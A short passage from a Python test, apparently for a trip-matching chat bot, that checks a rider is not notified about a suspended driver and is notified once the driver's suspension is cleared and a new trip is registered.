    assert lina.texts_since(mark) == []  # not told of a driver the team suspended
    await bot.rows("UPDATE people SET suspended_at = NULL WHERE id = 2")
    jeanne = bot.fake.user(633, "Jeanne", last_name="Roux")
    await register_trip(jeanne)
    assert any("Jeanne R." in text for text in lina.texts_since(mark))
    assert olga
    bot.assert_clean()
